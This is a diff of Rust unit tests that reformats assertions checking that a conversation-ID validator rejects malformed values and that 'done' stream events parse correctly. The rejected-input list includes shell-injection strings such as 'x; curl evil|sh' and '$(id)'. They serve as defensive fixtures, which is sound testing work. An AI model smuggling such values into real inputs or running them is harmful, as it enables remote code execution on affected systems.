@@ -125,7 +125,11 @@ mod tests {
         for bad in ["", "x; curl evil|sh", "a\nb", "a b", "$(id)", "é", &"x".repeat(129)] {
             assert_eq!(id(bad), None, "{bad}");
             let data = serde_json::json!({ "conversation_id": bad }).to_string();
-            assert_eq!(read(&event(Some("done"), &data)), ReplyChunk::Done { conversation: None, answered_by: None }, "{bad}");
+            assert_eq!(
+                read(&event(Some("done"), &data)),
+                ReplyChunk::Done { conversation: None, answered_by: None },
+                "{bad}"
+            );
         }
     }
 
@@ -138,7 +142,11 @@ mod tests {
             (r#"{"models": 1, "fallback": true}"#, None),
         ] {
             let answered_by = expected.map(str::to_owned);
-            assert_eq!(read(&event(Some("done"), data)), ReplyChunk::Done { conversation: None, answered_by }, "{data}");
+            assert_eq!(
+                read(&event(Some("done"), data)),
+                ReplyChunk::Done { conversation: None, answered_by },
+                "{data}"
+            );
         }
     }
 
